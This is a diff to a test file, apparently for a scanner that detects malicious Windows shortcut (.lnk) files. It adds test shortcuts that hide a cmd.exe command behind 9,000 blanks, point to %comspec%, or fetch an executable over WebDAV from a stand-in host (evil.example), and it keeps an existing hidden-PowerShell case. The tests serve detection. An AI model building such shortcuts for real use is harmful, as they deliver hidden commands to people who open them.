@@ -367,6 +367,15 @@ describe('shortcuts', () => {
     };
     return Buffer.concat([header, text(path), text(args)]);
   }
+  /** EnvironmentVariableDataBlock (§2.5.4). */
+  function environment(target: string): Buffer {
+    const block = Buffer.alloc(0x314);
+    block.writeUInt32LE(0x314, 0);
+    block.writeUInt32LE(0xa000_0001, 4);
+    block.write(target, 8, 'latin1');
+    block.write(target, 268, 'utf16le');
+    return block;
+  }
   test.each([
     [
       'a command',
@@ -379,6 +388,24 @@ describe('shortcuts', () => {
       'a.zip',
       zipWith({ 'a.lnk': link({ path: 'powershell.exe', args: '-w hidden' }) }),
       ['shortcut-command: powershell.exe -w hidden in a.lnk'],
+    ],
+    [
+      'a command behind nine thousand blanks',
+      'a.lnk',
+      link({ path: 'cmd.exe', args: `${' '.repeat(9_000)}/c calc` }),
+      ['shortcut-command: cmd.exe /c calc'],
+    ],
+    [
+      'a target with variables, which counts first',
+      'a.lnk',
+      Buffer.concat([link({ path: 'C:\\Projects', args: '' }), environment('%comspec%')]),
+      ['shortcut-command: %comspec%'],
+    ],
+    [
+      'a target elsewhere, likewise',
+      'a.lnk',
+      Buffer.concat([link({ path: 'C:\\Projects', args: '' }), environment('\\\\evil.example@80\\dav\\x.exe')]),
+      ['shortcut-remote: \\\\evil.example@80\\dav\\x.exe'],
     ],
     ['a folder', 'a.lnk', link({ path: 'C:\\Projects', args: '' }), []],
     ['a real one, to a program without words', 'calc.lnk', made('calc.lnk'), []],
